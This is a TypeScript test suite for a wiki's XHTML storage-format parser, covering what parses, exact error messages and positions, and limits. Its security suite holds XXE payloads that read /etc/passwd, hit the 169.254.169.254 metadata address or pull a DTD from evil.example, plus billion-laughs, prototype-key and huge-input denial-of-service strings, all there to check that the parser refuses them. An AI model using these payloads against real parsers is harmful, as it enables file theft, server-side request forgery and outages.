/** REST contract §4.1 (1): what parses, and the exact words and position when a body does not (§1.3, "malformed storage"). */
import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import fc from 'fast-check';
import { namedEntities } from '../../../src/wiki/storage-format/entities.ts';
import { defaultParseLimits, parse, storageErrorMessage } from '../../../src/wiki/storage-format/parse.ts';
import { document } from './support.ts';

function message(source: string): string {
  const parsed = parse(source);
  assert.equal(parsed.type, 'error', `${source} should not parse`);
  return parsed.type === 'error' ? storageErrorMessage(parsed) : '';
}

suite('a body that parses (§4.1)', () => {
  test('may use ac:, ri: and at: without declaring them, and a prefix that it declares', () => {
    const [link] = document('<ac:link><ri:page ri:content-title="A"/></ac:link><at:var/>').children;
    assert.deepEqual(link, {
      type: 'element',
      name: 'ac:link',
      attributes: Object.assign(Object.create(null), {}),
      children: [
        {
          type: 'element',
          name: 'ri:page',
          attributes: Object.assign(Object.create(null), { 'ri:content-title': 'A' }),
          children: [],
          start: 9,
          end: 40,
        },
      ],
      start: 0,
      end: 50,
    });
    assert.equal(parse('<p xmlns:o="urn:x"><o:b xml:lang="en"/></p>').type, 'document');
  });

  test('may use the 252 entities of HTML 4 and XML’s apos, each one character', () => {
    assert.equal(Object.keys(namedEntities).length, 253);
    assert.ok(Object.values(namedEntities).every((value) => value.length === 1));
    const [text] = document('&nbsp;&eacute;&euro;&hearts;&thetasym;&yuml;&#65;&#x42;').children;
    assert.equal(text?.type === 'text' && text.value, '\u00a0é€♥ϑÿAB');
  });

  test('keeps CDATA in plain text bodies, several sections included', () => {
    const [body] = document('<ac:plain-text-body><![CDATA[a]]]]><![CDATA[>&amp;]]></ac:plain-text-body>').children;
    assert.ok(body?.type === 'element');
    assert.deepEqual(
      body.children.map((node) => node.type === 'cdata' && node.value),
      ['a]]', '>&amp;'],
    );
  });

  test('joins text around comments and says where each element stands in the source', () => {
    const source = 'a<!-- & < -->b<p\n>x</p ><br/>';
    const [text, p, br] = document(source).children;
    assert.equal(text?.type === 'text' && text.value, 'ab');
    assert.ok(p?.type === 'element' && br?.type === 'element');
    assert.equal(source.slice(p.start, p.end), '<p\n>x</p >');
    assert.equal(source.slice(br.start, br.end), '<br/>');
  });

  test('may be empty, or only text', () => {
    assert.deepEqual(document('').children, []);
    assert.deepEqual(document('x').children, [{ type: 'text', value: 'x', start: 0 }]);
  });
});

suite('a body that does not parse names the first problem, its row and its column (§1.3)', () => {
  const at = (row: number, column: number) => `\n at [row,col {unknown-source}]: [${row},${column}]`;
  const cases: readonly [source: string, text: string, row: number, column: number][] = [
    [
      `${'<p>x</p>\n'.repeat(26)}<img alt="The tool at work, in a small window"[x]`,
      `Unexpected character '[' (code 91) excepted space, or '>' or "/>"`,
      27,
      47,
    ],
    ['<table><col></colgroup>', 'Unexpected close tag </colgroup>; expected </col>.', 1, 22],
    ['<p>\n<br>\n</p>', 'Unexpected close tag </p>; expected </br>.', 3, 3],
    ['x</p>', 'Unbalanced close tag </p>; no open start tag.', 1, 4],
    ['</xml><b>', 'Unbalanced close tag </xml>; no open start tag.', 1, 5],
    ['<p></>', 'Unexpected close tag </>; expected </p>.', 1, 5],
    ['<p>', 'Unexpected EOF; was expecting a close tag for element <p>', 1, 3],
    ['<p><b>x</b>\n', 'Unexpected EOF; was expecting a close tag for element <p>', 2, 0],
    ['<p', 'Unexpected EOF in start tag', 1, 2],
    ['<p a="', 'Unexpected EOF in start tag', 1, 6],
    ['<p></', 'Unexpected EOF in end tag', 1, 5],
    ['<!-- x', 'Unexpected EOF in comment', 1, 6],
    ['<ac:plain-text-body><![CDATA[ & ', 'Unexpected EOF in CDATA section', 1, 32],
    ['x &am', 'Unexpected EOF in entity reference', 1, 5],
    ['<p>Fish & chips</p>', "Unexpected character ' ' (code 32) (missing name?)", 1, 10],
    [
      '<a href="?a=1&b=2">x</a>',
      "Unexpected character '=' (code 61); expected a semi-colon after the reference for entity 'b'",
      1,
      16,
    ],
    ['<p>&foo;</p>', 'Undeclared general entity "foo"', 1, 8],
    ['<p>&__proto__;</p>', 'Undeclared general entity "__proto__"', 1, 14],
    ['<p>&constructor;</p>', 'Undeclared general entity "constructor"', 1, 16],
    ['&colon;', 'Undeclared general entity "colon"', 1, 7],
    ['&#0;', 'Illegal character entity: expansion character (#0)', 1, 4],
    ['&#xD800;', 'Illegal character entity: expansion character (#xD800)', 1, 8],
    ['&#x110000;', 'Illegal character entity: expansion character (#x110000)', 1, 10],
    ['a\u0001', 'Illegal character ((CTRL-CHAR, code 1))', 1, 2],
    ['a\ufffe', "Illegal character ('\ufffe' (code 65534 / 0xfffe))", 1, 2],
    ['a\ud800<b/>', 'Illegal character (unpaired surrogate)', 1, 2],
    ['<p a=b>', "Unexpected character 'b' (code 98) in start tag Expected a quote", 1, 6],
    ['<p markdown>', "Unexpected character '>' (code 62) expected '='", 1, 12],
    ['<p a b="c">', "Unexpected character 'b' (code 98) expected '='", 1, 6],
    ['<p "x">', "Unexpected character '\"' (code 34) (expected a name start character)", 1, 4],
    ['<p a="1"b="2">', `Unexpected character 'b' (code 98) excepted space, or '>' or "/>"`, 1, 9],
    ['<Id,List>', `Unexpected character ',' (code 44) excepted space, or '>' or "/>"`, 1, 4],
    ['<p/x>', "Unexpected character 'x' (code 120) expected '>'", 1, 4],
    ['< p>', "Unexpected character ' ' (code 32) in content after '<' (malformed start element?).", 1, 2],
    ['<a b="<">', "Unexpected character '<' (code 60) in attribute value", 1, 7],
    ['<p></p x>', "Unexpected character 'x' (code 120) in end tag Expected '>'", 1, 8],
    [
      '<ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[ a[<![CDATA[0]]> ]]></ac:plain-text-body></ac:structured-macro>',
      "CDATA block has embedded ']]>' in it",
      1,
      85,
    ],
    [']]>', "String ']]>' not allowed in textual content, except as the end marker of CDATA section", 1, 3],
    ['<!-- a -- b -->', "String '--' not allowed in comment (missing '>'?)", 1, 10],
    ['<p a="1" a="2">', "Duplicate attribute 'a'.", 1, 15],
    ['<p __proto__="1" __proto__="2">', "Duplicate attribute '__proto__'.", 1, 31],
    ['<o:p>x</o:p>', 'Undeclared namespace prefix "o"', 1, 5],
    ['<p><o:p xmlns:o="u"/><o:q/></p>', 'Undeclared namespace prefix "o"', 1, 27],
    ['<p x:y="1"/>', 'Undeclared namespace prefix "x"', 1, 12],
    ['<p><![CDATA[x]]></p>', 'CDATA is only allowed in ac:plain-text-body and ac:plain-text-link-body', 1, 12],
    ['<?php x?>', 'Processing instructions are not allowed', 1, 2],
    ['<?xml version="1.0"?><p/>', 'Processing instructions are not allowed', 1, 2],
    ['a\r\nb\rc<', 'Unexpected EOF in start tag', 3, 2],
    ['<p>😀&x</p>', "Unexpected character '<' (code 60); expected a semi-colon after the reference for entity 'x'", 1, 8],
  ];
  for (const [source, text, row, column] of cases) {
    test(`${JSON.stringify(source.slice(-40))}: ${text.slice(0, 60)}`, () => {
      assert.equal(message(source), `Error parsing xhtml: ${text}${at(row, column)}`);
    });
  }
});

suite('a body cannot make the server fetch, declare or expand (security rule 12)', () => {
  const directive = /^Error parsing xhtml: Unrecognized XML directive; expected CDATA or comment/;

  test('a document type is refused: external entities, parameter entities, a billion laughs', () => {
    for (const source of [
      '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
      '<!DOCTYPE p SYSTEM "http://169.254.169.254/">',
      '<p/><!DOCTYPE p>',
      '<!DOCTYPE p [<!ENTITY % d SYSTEM "http://evil.example/x.dtd">%d;]><p/>',
      `<!DOCTYPE lolz [<!ENTITY lol "lol">${'<!ENTITY lol2 "&lol;&lol;&lol;">'.repeat(9)}]><p>&lol2;</p>`,
      '<!ENTITY x "y">',
      '<!doctype html>',
    ]) {
      assert.match(message(source), directive, source);
    }
  });

  test('100,000 levels, 1,000,000 levels and unclosed ones end at the limit, in no time', () => {
    for (const levels of [100_000, 1_000_000]) {
      const started = performance.now();
      assert.match(message('<b>'.repeat(levels)), /nested more than 200 levels deep/);
      assert.ok(performance.now() - started < 1000);
    }
    const allowed = '<b>'.repeat(200) + '</b>'.repeat(200);
    assert.equal(parse(allowed).type, 'document');
    assert.match(message(`<b>${allowed}</b>`), /nested more than 200 levels deep/);
  });

  test('size, attributes and elements have limits, each named', () => {
    const limits = { ...defaultParseLimits, size: 100, attributes: 3, elements: 4 };
    const text = (source: string) => {
      const parsed = parse(source, limits);
      return parsed.type === 'error' ? parsed.text : parsed.type;
    };
    assert.equal(text('x'.repeat(101)), 'The body is longer than 100 characters');
    assert.equal(text('<p a="" b="" c="" d=""/>'), 'An element has more than 3 attributes');
    assert.equal(text('<p/><p/><p/><p/><p/>'), 'There are more than 4 elements');
    assert.equal(text('<p a="" b="" c=""/><p a="" b="" c=""/>'), 'document');
    assert.match(message(`<p ${Array.from({ length: 100_000 }, (_, n) => `a${n}=""`).join(' ')}/>`), /more than 100 attributes/);
  });

  test('a huge attribute, a long reference, and many ampersands take linear time', () => {
    const million = 1_000_000;
    const started = performance.now();
    assert.equal(parse(`<p title="${'x'.repeat(million)}"/>`).type, 'document');
    assert.equal(parse('&amp;'.repeat(million / 5)).type, 'document');
    assert.match(message(`&${'x'.repeat(million)};`), /Undeclared general entity/);
    assert.match(message(`<p>&${'x'.repeat(million)}`), /Unexpected EOF in entity reference/);
    assert.match(message('& '.repeat(million / 2)), /missing name/);
    assert.match(message('<'.repeat(million)), /malformed start element/);
    assert.ok(performance.now() - started < 5000);
  });
});

suite('parse', () => {
  test('never throws, whatever the string', () => {
    const markup = fc
      .array(
        fc.constantFrom(
          '<',
          '>',
          '</',
          '/>',
          '<!--',
          '-->',
          '<![CDATA[',
          ']]>',
          '&',
          ';',
          '&amp;',
          '="',
          '"',
          ' ',
          'ac:p',
          'p',
          '<?',
          '<!',
          '\n',
          '\r',
          '\ud800',
          '\u0000',
        ),
      )
      .map((parts) => parts.join(''));
    const source = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), markup);
    fc.assert(
      fc.property(source, (body) => {
        const parsed = parse(body);
        if (parsed.type === 'document') return;
        assert.ok(parsed.row >= 1 && parsed.column >= 0);
        assert.ok(parsed.row <= body.split(/\r\n|\r|\n/).length);
      }),
      { numRuns: 3000 },
    );
  });

  test('leaves the tree’s attributes without a prototype', () => {
    const [p] = document('<p __proto__="x" constructor="y"/>').children;
    assert.ok(p?.type === 'element');
    assert.equal(Object.getPrototypeOf(p.attributes), null);
    assert.deepEqual(Object.keys(p.attributes), ['__proto__', 'constructor']);
  });
});
